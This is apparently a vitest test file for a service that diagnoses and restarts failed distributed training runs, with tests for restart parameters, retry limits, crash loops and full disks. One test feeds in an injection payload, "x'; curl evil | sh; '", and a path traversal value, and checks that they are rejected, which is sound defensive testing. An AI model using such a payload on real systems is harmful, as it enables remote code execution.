import { describe, expect, it } from 'vitest';
import { classifyDetailed } from '../../../lambdas/core/classify/index.js';
import type { CommandResult, CommandRunner } from '../../../lambdas/core/model/ports.js';
import { type RemediationDeps, remediate } from '../../../lambdas/core/remediation/index.js';
import { POLICY_PRESETS } from '../../../lambdas/core/remediation/policy/index.js';
import {
  FakeRunStore,
  FakeStateStore,
  NO_WAIT,
  RecordingNotifier,
  type RecordOverrides,
  record,
  recordingArchive,
} from '../../support/fakes.js';

const NOW = 1_800_000_000_000;
const NCCL =
  'RuntimeError: NCCL communicator was aborted on rank 2. Original reason for failure was: [Rank 2] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=10, OpType=BROADCAST, Timeout(ms)=1800000) ran for 1805457 milliseconds before timing out.';

/** A command runner answering from a script: diagnosis output per call, restart outcome. */
class ScriptedRunner implements CommandRunner {
  readonly calls: { document: string; parameters: Readonly<Record<string, string>> }[] = [];
  constructor(
    private readonly diagnosis: string,
    private readonly restart: CommandResult = {
      status: 'Success',
      ok: true,
      output: 'restart.launched_pid=1\nend=ok\n',
    },
  ) {}
  async run(req: Parameters<CommandRunner['run']>[0]): Promise<CommandResult> {
    this.calls.push({ document: req.document, parameters: req.parameters });
    return req.document === 'diag' ? { status: 'Success', ok: true, output: this.diagnosis } : this.restart;
  }
  async runOnEach(req: Parameters<CommandRunner['runOnEach']>[0]): Promise<Map<string, CommandResult>> {
    const { instanceIds, ...rest } = req;
    return new Map(
      await Promise.all(
        instanceIds.map(async (id) => [id, await this.run({ ...rest, instanceId: id })] as const),
      ),
    );
  }
}

const GONE = 'process.source=pattern\nprocess.alive=false\nend=ok\n';

function world(rec: RecordOverrides, runner: CommandRunner, meta: Record<string, unknown> = {}) {
  const runs = new FakeRunStore();
  runs.put(
    'r1',
    'metadata',
    {
      run_id: 'r1',
      instance_id: 'i-0123456789abcdef0',
      job_name: 'llama',
      checkpoint_dir: '/ckpt/r1',
      ...meta,
    },
    NOW - 5000,
  );
  runs.put('r1', 'error', NCCL, NOW - 4000);
  const states = new FakeStateStore();
  states.seed(
    record({
      state: 'FAILED',
      errorType: 'nccl_timeout',
      ...rec,
      facts: { step: 300, stepAdvancedAt: NOW - 60_000, ...rec.facts },
    }),
  );
  const slack = new RecordingNotifier('slack');
  const archived: string[] = [];
  const deps: RemediationDeps = {
    runs,
    states,
    commands: runner,
    archive: recordingArchive(archived),
    notifiers: [slack],
    links: { bucket: 'b', prefix: 'training-runs', region: 'us-east-1' },
    settings: {
      diagnoseDocument: 'diag',
      restartDocument: 'restart',
      policy: POLICY_PRESETS.get('transient')!,
      profile: 'production',
      commands: { '*': { command: '/opt/train/resume.sh', processPattern: 'train.py' } },
    },
    owner: 'test',
    classify: classifyDetailed,
    deliverOptions: NO_WAIT,
  };
  return { deps, states, slack, archived };
}

describe('remediate', () => {
  it('restarts: document parameters come from validated metadata and operator config, never from free text', async () => {
    const runner = new ScriptedRunner(GONE);
    const { deps, states, archived } = world({}, runner, {
      process_pattern: 'train.py --run r1',
      log_path: '/var/log/train.log',
    });
    const out = await remediate(deps, { runId: 'r1', state: 'FAILED', alertId: 'r1:3:transition' }, NOW);
    expect(out.decision!.action).toBe('restart');
    expect(runner.calls.map((c) => c.document)).toEqual(['diag', 'restart']);
    expect(runner.calls[0]!.parameters).toEqual({
      RunId: 'r1',
      PidFile: '',
      ProcessPattern: 'train.py --run r1',
      CheckpointDir: '/ckpt/r1',
      LogPath: '/var/log/train.log',
      TailLines: '40',
    });
    expect(runner.calls[1]!.parameters).toMatchObject({
      RunId: 'r1',
      Attempt: '2',
      Command: '/opt/train/resume.sh',
      CheckpointDir: '/ckpt/r1',
      DelaySeconds: '60',
    });
    const rec = (await states.get('r1'))!;
    expect(rec).toMatchObject({
      state: 'RESTARTING',
      attempt: 2,
      restartIssuedAt: NOW + 60_000,
      remediation: { restarts: 1, attemptStartedAt: NOW + 60_000 },
    });
    expect(states.flips.at(-1)).toMatchObject({ from: 'FAILED', to: 'RESTARTING', attempt: 2 });
    expect(archived).toEqual(['r1/attempts/1/error']);
    expect(rec.locks?.remediation).toBeUndefined();
  });

  it('drops unsafe metadata fields instead of passing them on, and says so', async () => {
    const runner = new ScriptedRunner(GONE);
    const { deps, slack } = world({}, runner, {
      process_pattern: "x'; curl evil | sh; '",
      checkpoint_dir: '/ckpt/../../etc',
    });
    await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW);
    expect(runner.calls[0]!.parameters).toMatchObject({ ProcessPattern: 'train.py', CheckpointDir: '' });
    expect(slack.sent[0]!.details!.join('\n')).toMatch(
      /note: process_pattern .* is not a safe processPattern: ignored/,
    );
  });

  it('gives up when retries are exhausted', async () => {
    const runner = new ScriptedRunner(GONE);
    const { deps, states, slack } = world(
      { attempt: 4, remediation: { restarts: 3, bestSteps: { '1': 100, '2': 200, '3': 300 }, history: [] } },
      runner,
    );
    const out = await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW);
    expect(out.decision).toMatchObject({
      action: 'give_up',
      reason: 'giving up: retries exhausted (3 of 3 restarts used)',
    });
    expect(runner.calls.map((c) => c.document)).toEqual(['diag']);
    expect((await states.get('r1'))!.state).toBe('FAILED');
    expect(slack.sent[0]!.details).toContain(
      'decision: gave up — giving up: retries exhausted (3 of 3 restarts used)',
    );
  });

  it('gives up on a crash loop: the last two attempts never got past the best step before them', async () => {
    const runner = new ScriptedRunner(GONE);
    // Attempt 3 started after its last progress: it made none of its own.
    const { deps } = world(
      {
        attempt: 3,
        facts: { step: 250, stepAdvancedAt: NOW - 60_000 },
        remediation: {
          restarts: 2,
          attemptStartedAt: NOW - 30_000,
          bestSteps: { '1': 400, '2': 250 },
          history: [],
        },
      },
      runner,
    );
    const out = await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW);
    expect(out.decision!.action).toBe('give_up');
    expect(out.decision!.reason).toMatch(
      /attempts 2 and 3 both died without getting past step 400 \(a crash loop/,
    );
  });

  it('does not restart onto a full disk, and the alert says which disk', async () => {
    const runner = new ScriptedRunner('process.alive=false\ndisk=/ckpt/r1,100,100,0,100%,/ckpt\nend=ok\n');
    const { deps, states, slack } = world({}, runner);
    const out = await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW);
    expect(out.decision!.reason).toBe(
      'not restarting: disk /ckpt/r1 (/ckpt) 100% full — free space before restarting',
    );
    expect((await states.get('r1'))!.state).toBe('FAILED');
    expect(slack.sent[0]!.details).toContain(
      'diagnosis: disk /ckpt/r1 (/ckpt) 100% full — free space before restarting',
    );
  });

  it('reports an instance that refuses the restart and leaves the run as it was', async () => {
    const runner = new ScriptedRunner(GONE, {
      status: 'Failed',
      ok: false,
      output: 'restart.refused=process 42 would not stop\nend=ok\n',
      exitCode: 3,
      finding: 'failed',
    });
    const { deps, states } = world({}, runner);
    const out = await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW);
    expect(out.decision).toMatchObject({
      action: 'alert',
      reason: 'not restarted: the instance refused: process 42 would not stop',
    });
    expect((await states.get('r1'))!).toMatchObject({ state: 'FAILED', attempt: 1 });
  });

  it('skips a run that moved on, and one whose lock another worker holds', async () => {
    const { deps, states } = world({ state: 'RUNNING' }, new ScriptedRunner(GONE));
    expect((await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW)).skipped).toBe(
      'the run is RUNNING now, not FAILED',
    );
    await states.transition(
      { ...(await states.get('r1'))!, state: 'FAILED', version: 4 },
      { runId: 'r1', to: 'FAILED', reason: 'x', at: NOW, attempt: 1, version: 4 },
      3,
    );
    await states.acquireLock('r1', 'remediation', 'someone-else', NOW + 60_000, NOW);
    expect((await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW)).skipped).toBe(
      'another remediation holds the lock',
    );
  });
});

describe('remediate counts attempts itself', () => {
  it('numbers the next attempt from its own restart count when metadata keeps saying attempt 1', async () => {
    const runner = new ScriptedRunner(GONE);
    const { deps, states, archived } = world(
      {
        attempt: 1,
        facts: { step: 900, stepAdvancedAt: NOW - 10_000 },
        remediation: { restarts: 1, attemptStartedAt: NOW - 120_000, bestSteps: { '1': 500 }, history: [] },
      },
      runner,
    );
    const out = await remediate(deps, { runId: 'r1', state: 'FAILED' }, NOW);
    expect(out.decision).toMatchObject({ action: 'restart', nextAttempt: 3 });
    expect((await states.get('r1'))!).toMatchObject({
      attempt: 3,
      remediation: { restarts: 2, bestSteps: { '1': 500, '2': 900 } },
    });
    expect(archived).toEqual(['r1/attempts/2/error']);
  });
});
